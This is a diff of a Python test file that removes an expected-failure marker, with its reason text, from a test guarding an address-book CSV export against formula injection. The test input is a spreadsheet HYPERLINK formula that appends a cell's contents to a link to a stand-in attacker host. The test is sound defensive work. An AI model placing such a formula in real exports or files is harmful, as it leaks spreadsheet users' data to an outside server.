@@ -253,10 +253,6 @@ def test_job_lists_refuse_a_crafted_before_with_a_reason(api):
             assert 400 <= r.status_code < 500, (before, r.status_code)
 
 
-@pytest.mark.xfail(strict=True, reason="CSV formula injection: the address-book export writes a "
-                   "name or note starting with = + - @ as is, so a spreadsheet runs it; escaping "
-                   "it (OWASP: a leading ') needs the import to undo it for the round trip "
-                   "(hub/services/people_export.py and people_import.py, the contacts helper's)")
 def test_the_csv_export_does_not_hand_a_spreadsheet_a_formula(site, owner):
     hub, _ = site
     formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
